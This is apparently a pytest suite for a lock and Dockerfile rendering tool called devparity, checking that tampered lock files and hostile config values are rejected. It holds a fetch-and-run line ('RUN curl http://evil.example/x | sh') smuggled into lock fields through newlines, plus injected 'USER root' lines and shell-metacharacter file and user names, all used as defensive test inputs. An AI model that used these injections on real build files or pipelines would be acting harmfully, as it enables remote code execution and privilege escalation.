"""Hostile locks and config values against `lock --check`, `render` and
`check` (issue 7, findings 1-3). No engine: each lock starts as the one
`devparity lock` would write (tests.support.lock_data) and is then tampered
with or broken. Malformed is exit 2, a consistent-looking hand edit exit 1;
either way one line on stderr, no traceback, and no injected line in a
rendered Dockerfile."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from devparity.lock import content_digest
from devparity.inputs import sha256_json
from tests.support import lock_data
from tests.hostile.harness import BASE_TOML, assert_clean, listing, make_project, run

INJECTED = "RUN curl http://evil.example/x | sh"
OTHER = "sha256:" + "e" * 64


def reseal(data: dict[str, Any]) -> dict[str, Any]:
    """An attacker who knows the format: the recorded digest made to match."""
    return {**data, "digest": content_digest(data)}


def swap_everywhere(data: dict[str, Any]) -> dict[str, Any]:
    """Another valid digest in `base` and in `inputs.base`, hash and digest
    recomputed, but `fingerprint.base` forgotten."""
    data["base"]["digest"] = OTHER
    data["inputs"]["base"]["digest"] = OTHER
    data["inputs_hash"] = sha256_json(data["inputs"])
    return reseal(data)


def setter(path: str, value: Any, *, sealed: bool = False) -> Callable[[dict[str, Any]], dict[str, Any]]:
    def edit(data: dict[str, Any]) -> dict[str, Any]:
        *parents, last = path.split(".")
        node = data
        for key in parents:
            node = node[key]
        node[last] = value
        return reseal(data) if sealed else data

    return edit


def dropper(key: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda data: {k: v for k, v in data.items() if k != key}


# (id, edit of the lock dict, or the raw bytes of the lock; lock --check's exit; render's exit; word the error names)
EDITS: list[tuple[str, Any, int, int, str]] = [
    ("digest-newline-run", setter("base.digest", f"sha256:abc\n{INJECTED}"), 2, 2, "base.digest"),
    ("digest-newline-run-sealed", setter("base.digest", "sha256:" + "a" * 64 + f"\n{INJECTED}", sealed=True), 2, 2, "base.digest"),
    ("other-valid-digest", setter("base.digest", OTHER), 1, 1, "edited by hand"),
    ("other-valid-digest-sealed", setter("base.digest", OTHER, sealed=True), 1, 1, "inputs.base.digest"),
    ("other-digest-everywhere-but-fingerprint", swap_everywhere, 1, 1, "fingerprint.base"),
    ("inputs-files-list", setter("inputs.files", ["requirements.txt"]), 2, 2, "inputs.files"),
    ("inputs-files-bad-digest", setter("inputs.files", {"requirements.txt": "md5:x"}), 2, 2, "inputs.files"),
    ("inputs-base-string", setter("inputs.base", "python:3.11-slim"), 2, 2, "inputs.base"),
    ("base-empty", setter("base", {}), 2, 2, "base.ref"),
    ("base-ref-newline", setter("base.ref", f"python:3.11-slim\n{INJECTED}"), 2, 2, "base.ref"),
    ("base-digest-uppercase", setter("base.digest", "sha256:" + "C" * 64), 2, 2, "base.digest"),
    ("local-only-disagrees", setter("base.local_only", True), 2, 2, "base.local_only"),
    ("source-unknown", setter("base.source", "ftp"), 2, 2, "base.source"),
    ("digest-altered", setter("digest", OTHER), 1, 1, "digest"),
    ("digest-missing", dropper("digest"), 2, 2, "digest"),
    ("inputs-hash-altered", setter("inputs_hash", OTHER, sealed=True), 1, 1, "inputs_hash"),
    ("fingerprint-base-altered", setter("fingerprint.base", {"ref": "python:3.11-slim", "digest": OTHER}, sealed=True), 1, 1, "fingerprint.base"),
    ("fingerprint-string", setter("fingerprint", "{}"), 2, 2, "fingerprint"),
    ("fingerprint-packages-list", setter("fingerprint.packages", ["bash"]), 2, 2, "fingerprint.packages"),
    ("in-image-altered", setter("runtime.in_image", "3.12.1", sealed=True), 1, 1, "runtime.in_image"),
    ("salt-malformed", setter("salt", "not-hex"), 2, 2, "salt"),
    ("salt-uppercase", setter("salt", "A" * 32, sealed=True), 2, 2, "salt"),
    ("salt-missing", dropper("salt"), 2, 2, "salt"),
    ("project-renamed", setter("project", "other"), 1, 1, "edited by hand"),
    ("project-renamed-sealed", setter("project", "other", sealed=True), 1, 0, "project"),
    ("runtime-version-sealed", setter("runtime.version", "3.12", sealed=True), 1, 0, "runtime"),
    ("generated-by-newline", setter("generated_by", f"devparity\n{INJECTED}"), 2, 2, "generated_by"),
    ("extra-field", setter("extra", 1), 2, 2, "extra"),
    ("schema-2", setter("schema", 2), 2, 2, "schema 2"),
    ("schema-true", setter("schema", True), 2, 2, "schema"),
    ("top-level-list", lambda data: [data], 2, 2, "JSON object"),
    ("binary", b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + os.urandom(64), 2, 2, "UTF-8"),
    ("deep-json", b"[" * 100_000 + b"]" * 100_000, 2, 2, "nested"),
    ("twenty-mb", b'{"pad": "' + b"x" * (20 * 1024 * 1024) + b'"}', 2, 2, "MB"),
    ("nan", b'{"schema": NaN}', 2, 2, "devparity.lock"),
    ("not-json", b"{not json", 2, 2, "not valid JSON"),
    ("empty", b"", 2, 2, "not valid JSON"),
]


def write(root: Path, edit: Any) -> None:
    path = root / "devparity.lock"
    if isinstance(edit, bytes):
        path.write_bytes(edit)
    else:
        path.write_text(json.dumps(edit(lock_data(root)), indent=2, sort_keys=True))


@pytest.mark.parametrize(("edit", "check_code", "render_code", "named"), [e[1:] for e in EDITS], ids=[e[0] for e in EDITS])
def test_hostile_lock(tmp_path: Path, edit: Any, check_code: int, render_code: int, named: str) -> None:
    root = make_project(tmp_path / "p")
    write(root, edit)
    before = listing(root)
    checked = run(root, "lock", "--check")
    assert_clean(checked, check_code, mentions=(named,), root=root, before=before)
    rendered = run(root, "render")
    assert_clean(rendered, render_code, one_line=render_code != 0, root=root, before=before)
    assert "curl" not in rendered.stdout and "evil" not in rendered.output
    if render_code == 0:
        assert rendered.stdout.count("\nRUN ") == 3  # venv, install, useradd: nothing added


def test_valid_lock_is_up_to_date_and_renders_its_pin(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p")
    write(root, lambda data: data)
    assert_clean(run(root, "lock", "--check"), 0)
    rendered = run(root, "render")
    assert rendered.code == 0 and f"FROM python@sha256:{'c' * 64}" in rendered.stdout


@pytest.mark.parametrize(("edit", "code"), [(setter("base.digest", OTHER), 1), (setter("inputs.files", []), 2)], ids=["edited", "malformed"])
def test_check_gate_fails_on_a_bad_lock_without_an_engine(tmp_path: Path, edit: Any, code: int) -> None:
    root = make_project(tmp_path / "p")
    write(root, edit)
    r = run(root, "check", "--offline", env={"DOCKER_HOST": "unix:///nonexistent.sock"})
    assert_clean(r, code, one_line=code == 2)
    if code == 1:
        assert "edited by hand" in r.stdout


@pytest.mark.parametrize("command", ["build", "up", "prune", "snapshot lock", "diff lock dev"])
def test_commands_refuse_a_malformed_lock(tmp_path: Path, command: str) -> None:
    root = make_project(tmp_path / "p")
    write(root, setter("base.digest", f"sha256:abc\n{INJECTED}"))
    r = run(root, *command.split(), env={"DOCKER_HOST": "unix:///nonexistent.sock"})
    assert_clean(r, 2, mentions=("base.digest",))


def test_lock_fifo_is_refused_at_once(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p")
    os.mkfifo(root / "devparity.lock")
    started = time.monotonic()
    r = run(root, "lock", "--check", timeout=10)
    assert_clean(r, 2, mentions=("not a regular file",))
    assert time.monotonic() - started < 5


def test_lock_directory_is_refused(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p", {"devparity.lock": None})
    assert_clean(run(root, "render"), 2, mentions=("not a regular file",))


# Config values that used to reach a Dockerfile line or a shell; render must
# refuse them (exit 2) or carry them quoted, never emit the injected line.
TOML_CASES: list[tuple[str, str, int, str]] = [
    ("env-value-newline", 'env = { APP_ENV = "x\\nUSER root" }', 2, "app.env"),
    ("env-value-line-separator", 'env = { APP_ENV = "x\\u2028USER root" }', 2, "app.env"),
    ("env-value-carriage-return", 'env = { APP_ENV = "x\\rUSER root" }', 2, "app.env"),
    ("env-name-newline", 'env = { "A\\nUSER root" = "x" }', 2, "app.env"),
    ("env-value-quotes-and-dollar", 'env = { APP_ENV = "a\\"b $HOME ${X} \'q\' \\\\" }', 0, ""),
]


@pytest.mark.parametrize(("line", "code", "named"), [c[1:] for c in TOML_CASES], ids=[c[0] for c in TOML_CASES])
def test_hostile_env_never_adds_a_line(tmp_path: Path, line: str, code: int, named: str) -> None:
    toml = BASE_TOML.replace('env = { APP_ENV = "production" }', line)
    root = make_project(tmp_path / "p", toml=toml)
    r = run(root, "render")
    assert_clean(r, code, one_line=code != 0, mentions=(named,) if named else ())
    assert "USER root" not in r.stdout
    if code == 0:
        env_lines = [ln for ln in r.stdout.splitlines() if ln.startswith("ENV APP_ENV=")]
        assert env_lines == ["ENV APP_ENV='a\"b $HOME ${X} '\\''q'\\'' \\'"]


def test_dependency_file_name_is_shell_quoted(tmp_path: Path) -> None:
    name = "x.txt;echo X;.txt"
    toml = BASE_TOML.replace('files = ["requirements.txt"]', f'files = ["{name}"]')
    root = make_project(tmp_path / "p", {name: ""}, toml=toml)
    r = run(root, "render")
    assert "echo X;" not in r.stdout.replace(f"'{name}'", "")
    if r.code == 2:  # the config boundary refused it first: as good
        assert_clean(r, 2, mentions=("dependencies.files",))
        return
    assert_clean(r, 0, one_line=False)
    assert f"RUN pip install --no-cache-dir -r '{name}'" in r.stdout.splitlines()


def test_user_is_shell_quoted_and_a_builder_word(tmp_path: Path) -> None:
    toml = BASE_TOML + 'user = "app; echo X"\n'
    root = make_project(tmp_path / "p", toml=toml)
    r = run(root, "render")
    if r.code == 2:  # the config boundary refused it first: as good
        assert_clean(r, 2, mentions=("app.user",))
        return
    lines = r.stdout.splitlines()
    assert "RUN useradd --create-home --uid 10001 --user-group 'app; echo X'" in lines
    assert "USER 'app; echo X'" in lines


@pytest.mark.parametrize("command", ["build", "render", "up", "snapshot lock"])
def test_commands_refuse_an_edited_lock(tmp_path: Path, command: str) -> None:
    """A well-formed lock whose pin disagrees with its own inputs never
    reaches a FROM line: the command stops before the engine is asked."""
    root = make_project(tmp_path / "p")
    write(root, setter("base.digest", OTHER, sealed=True))
    r = run(root, *command.split(), env={"DOCKER_HOST": "unix:///nonexistent.sock"})
    assert_clean(r, 1, mentions=("edited by hand",))
    assert OTHER not in r.stdout


def test_a_broken_lock_does_not_keep_down_from_running(tmp_path: Path) -> None:
    """`down` never reads the lock: with no engine it fails on the engine
    (exit 3), not on the lock."""
    root = make_project(tmp_path / "p", {"devparity.lock": b"\xff\x00"})
    r = run(root, "down", env={"DOCKER_HOST": "unix:///nonexistent.sock"})
    assert_clean(r, 3)
    assert "devparity.lock" not in r.stderr
